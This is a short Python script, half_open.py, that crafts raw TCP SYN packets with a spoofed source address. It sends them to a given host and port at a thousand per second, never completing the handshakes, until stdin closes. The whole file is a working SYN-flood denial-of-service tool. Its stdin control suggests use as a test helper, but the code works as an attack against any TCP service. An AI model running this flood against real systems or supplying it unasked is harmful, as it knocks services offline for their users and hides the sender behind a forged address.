"""half_open.py ADDRESS PORT SOURCE: begin a thousand connections per second, and complete none, as
long as stdin is open.

Their source is an address of no host, so no host resets them. Needs root. The program prints "held"
when it starts to send, and at the end how many packets it has sent.
"""
# ruff: noqa: T201 -- its output is its result

import itertools
import select
import socket
import struct
import sys
import time

RATE = 1000  # per second
SYN = 2


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total >> 16) + (total & 0xFFFF)
    return ~total & 0xFFFF


def packet(source: bytes, target: bytes, port: int, number: int) -> bytes:
    ours = 1024 + number % 64000
    fields = [ours, port, number, 0, 5 << 4, SYN, 1 << 15]
    ends = source + target + struct.pack(">HH", socket.IPPROTO_TCP, 20)
    check = checksum(ends + struct.pack(">HHIIBBHHH", *fields, 0, 0))
    tcp = struct.pack(">HHIIBBHHH", *fields, check, 0)
    # The kernel fills in the checksum of the IP header.
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0)
    return ip + source + target + tcp


def main(target: str, port: str, source: str) -> None:
    ends = socket.inet_aton(source), socket.inet_aton(target)
    begun = time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        print("held", flush=True)
        for number in itertools.count():
            early = begun + number / RATE - time.monotonic()
            if select.select([sys.stdin], [], [], max(0.0, early))[0]:
                print(number, flush=True)
                return
            s.sendto(packet(*ends, int(port), number), (target, 0))


main(*sys.argv[1:])
